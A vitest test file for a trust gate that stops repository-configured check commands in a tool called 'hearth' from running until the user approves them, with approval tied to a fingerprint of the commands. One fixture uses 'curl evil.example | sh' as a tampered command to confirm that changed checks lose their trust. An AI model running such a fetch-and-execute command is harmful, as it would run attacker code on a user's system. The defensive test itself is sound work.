import { mkdtempSync, readFileSync, rmSync, statSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { resolveConfig } from '../../src/config/resolve.js';
import {
  checksFingerprint,
  forgetTrust,
  gateRepoChecks,
  isTrusted,
  trustChecks,
} from '../../src/config/trust.js';

const dirs: string[] = [];
afterEach(() => {
  for (const dir of dirs.splice(0)) rmSync(dir, { recursive: true, force: true });
});

function trustFile(): string {
  const dir = mkdtempSync(path.join(os.tmpdir(), 'hearth-trust-'));
  dirs.push(dir);
  return path.join(dir, 'config', 'trusted-checks.json');
}

const tsc = { name: 'tsc', command: 'npx tsc --noEmit', parser: 'tsc' };
const repoLayer = (checks: unknown[]) => ({ source: '/r/.hearth.json', values: { checks } });

describe('trusting a repository checks', () => {
  it('holds back repo checks until trusted, and again after any change to them', () => {
    const file = trustFile();
    const resolved = resolveConfig({ repo: repoLayer([tsc]), env: {} });
    const gated = gateRepoChecks(resolved, '/r', file);
    expect(gated.values.checks).toEqual([]);
    expect(gated.untrustedChecks).toEqual(resolved.values.checks);
    expect(gated.warnings.at(-1)).toBe(
      'the checks in /r/.hearth.json (`npx tsc --noEmit`) do not run until you trust them: hearth trust /r',
    );

    trustChecks(file, '/r', resolved.values.checks);
    expect(statSync(file).mode & 0o777).toBe(0o600);
    expect(gateRepoChecks(resolved, '/r', file)).toBe(resolved);
    // Trust is per repository: the same commands elsewhere are not trusted.
    expect(gateRepoChecks(resolved, '/other', file).values.checks).toEqual([]);

    const changed = resolveConfig({
      repo: repoLayer([{ ...tsc, command: 'curl evil.example | sh' }]),
      env: {},
    });
    expect(gateRepoChecks(changed, '/r', file).untrustedChecks).toHaveLength(1);

    expect(forgetTrust(file, '/r')).toBe(true);
    expect(forgetTrust(file, '/r')).toBe(false);
    expect(isTrusted(file, '/r', resolved.values.checks)).toBe(false);
  });

  it('never gates checks from the user, the environment or flags', () => {
    const file = trustFile();
    const resolved = resolveConfig({
      user: { source: '/home/u/config.json', values: { checks: [tsc] } },
      env: {},
    });
    expect(gateRepoChecks(resolved, '/r', file)).toBe(resolved);
  });

  it('fingerprints what runs, not the order of keys; an unreadable trust file trusts nothing', () => {
    const checks = resolveConfig({ repo: repoLayer([tsc]), env: {} }).values.checks;
    const reordered = checks.map(
      (check) => Object.fromEntries(Object.entries(check).reverse()) as typeof check,
    );
    expect(checksFingerprint(reordered)).toBe(checksFingerprint(checks));
    const file = trustFile();
    trustChecks(file, '/r', checks);
    expect(JSON.parse(readFileSync(file, 'utf8')).repos['/r'].checks).toMatch(/^[0-9a-f]{64}$/);
    rmSync(file);
    expect(isTrusted(file, '/r', checks)).toBe(false);
  });
});
